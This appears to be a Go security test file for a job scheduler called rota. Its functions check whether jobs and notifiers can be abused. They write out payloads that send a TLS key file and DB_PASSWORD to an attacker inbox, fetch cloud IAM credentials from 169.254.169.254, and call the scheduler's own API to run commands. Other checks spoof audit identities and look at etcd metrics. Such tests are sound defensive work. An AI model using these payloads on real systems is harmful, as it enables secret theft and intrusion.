package holes

import (
	"fmt"
	"net/http"
	"os"
	"strings"
	"time"

	"github.com/rota-scheduler/rota/test/cluster"
)

// jobSendsSecrets: PUT of an http job whose body is `${file:/etc/rota/tls/q1.key}|${env:DB_PASSWORD}`. The attacker takes either.
func jobSendsSecrets(v *server) (success bool, got string) {
	var all []string
	for i, ref := range []string{"${file:" + v.key + "}", "${env:DB_PASSWORD}"} {
		mark := fmt.Sprintf("/job-%d-%d?", v.pid(), i)
		_, detail := v.runJob(fmt.Sprintf("leak-%d", i), fmt.Sprintf(
			`{"every":"24h","http":{"url":"%s%s","method":"POST","body":"%s"}}`, theInbox.url, mark, ref))
		all = append(all, detail)
		for _, secret := range []string{secretKey, secretVariable} {
			success = success || theInbox.received(mark+"  "+secret)
		}
	}
	return success, strings.Join(all, "; ")
}

// notifierSendsSecrets: `notify.x.url: generic+http://attacker/n?e=${env:DB_PASSWORD}&k=${file:...}`. A second job has a notifier
// without references. When its message has arrived, so has the other one, if it ever arrives.
func notifierSendsSecrets(v *server) (success bool, got string) {
	addr := strings.TrimPrefix(theInbox.url, "http://")
	spec := func(mark, refs string) string {
		return fmt.Sprintf(`{"every":"24h","shell":"exit 1","notify":{"x":{"url":"generic+http://%s/%s-%d?%s","when":["failure"]}}}`,
			addr, mark, v.pid(), refs)
	}
	if answer, ok := v.define("plain", spec("plain", "")); !ok {
		return false, "the definition: " + answer // this role defines no notifiers
	}
	_, detail := v.runJob("told", spec("told", "e=${env:DB_PASSWORD}&k=${file:"+v.key+"}"))
	v.submit("/v1/jobs/plain/runs", "{}")
	cluster.Await(v.t, 20*time.Second, "a notifier without references reaches the attacker", func() bool {
		return theInbox.received(fmt.Sprintf("/plain-%d", v.pid()))
	})
	won := func() bool {
		return theInbox.received(fmt.Sprintf("/told-%d?e=%s", v.pid(), secretVariable)) || theInbox.received(secretKey+" told")
	}
	return cluster.Within(2*time.Second, won), detail
}

// jobReadsMetadata: an http job with GET http://169.254.169.254/latest/meta-data/iam/…
func jobReadsMetadata(v *server) (success bool, got string) {
	var all []string
	for i, host := range []string{metadataAddress, "[::ffff:" + metadataAddress + "]"} {
		output, detail := v.runJob(fmt.Sprintf("metadata-%d", i),
			fmt.Sprintf(`{"every":"24h","http":{"url":"http://%s/latest/meta-data/iam/role","method":"GET"}}`, host))
		success = success || strings.Contains(output, secretMetadata)
		all = append(all, detail)
	}
	return success, strings.Join(all, "; ")
}

// jobAsksOwnAPI: an http job that sends {"command":["id"]} to http://127.0.0.1:8470/v1/runs.
func jobAsksOwnAPI(v *server) (success bool, got string) {
	var all []string
	for i, host := range []string{"127.0.0.1", "localhost", "[::ffff:127.0.0.1]"} {
		proof := fmt.Sprintf("%s/proof-%d", v.dir, i)
		_, detail := v.runJob(fmt.Sprintf("own-api-%d", i), fmt.Sprintf(
			`{"every":"24h","http":{"url":"http://%s:%d/v1/runs","method":"POST","json":{"command":["touch","%s"]}}}`, host, v.port, proof))
		all = append(all, detail)
		if strings.Contains(detail, "succeeded") {
			success = cluster.Within(10*time.Second, func() bool { return exists(proof) }) || success
		}
	}
	return success, strings.Join(all, "; ")
}

// jobAsksEtcd: an http job that reads :2379/metrics.
func jobAsksEtcd(v *server) (success bool, got string) {
	output, detail := v.runJob("etcd", fmt.Sprintf(`{"every":"24h","http":{"url":"%s/metrics","method":"GET"}}`, v.etcd))
	return strings.Contains(output, "etcd_server"), detail
}

// changeIsAnonymous: a PUT and a DELETE by mallory, who claims to be root where a role proves another name. Afterwards no record
// names mallory.
func changeIsAnonymous(v *server) (success bool, got string) {
	claimed := "mallory"
	if v.token != "" {
		claimed = "root"
	}
	if answer, ok := v.define("audited", `{"every":"24h","shell":"true"}`, "Rota-By", claimed); !ok {
		return false, answer
	}
	if status, answer := v.ask(http.MethodDelete, "/v1/jobs/audited", "", "Rota-By", claimed); status != http.StatusNoContent {
		return false, fmt.Sprintf("DELETE: %d %s", status, answer)
	}
	_, trail := v.ask(http.MethodGet, "/v1/audit?job=audited", "")
	store := ""
	if v.token == "" {
		store, _ = as(v.t, neighbourUser, v.rota, "etcdctl", "--endpoints", v.etcd, "--command-timeout=5s", "get", "--prefix", "/rota/")
	}
	return !strings.Contains(trail+store, "mallory"), trail
}

// metricsStay: three jobs that have run are deleted. Their series stay.
func metricsStay(v *server) (success bool, got string) {
	series := func() int {
		_, text := v.ask(http.MethodGet, "/metrics", "")
		return strings.Count(text, `"short-lived-`)
	}
	for i := range 3 {
		v.runJob(fmt.Sprintf("short-lived-%d", i), `{"every":"24h","shell":"true"}`)
	}
	cluster.Await(v.t, 20*time.Second, "the jobs have metrics", func() bool { return series() > 0 })
	before := series()
	for i := range 3 {
		v.ask(http.MethodDelete, fmt.Sprintf("/v1/jobs/short-lived-%d", i), "")
	}
	gone := cluster.Within(3*time.Second, func() bool { return series() == 0 })
	return !gone, fmt.Sprintf("%d series before the deletion, %d after it", before, series())
}

func exists(path string) bool {
	_, err := os.Stat(path)
	return err == nil
}
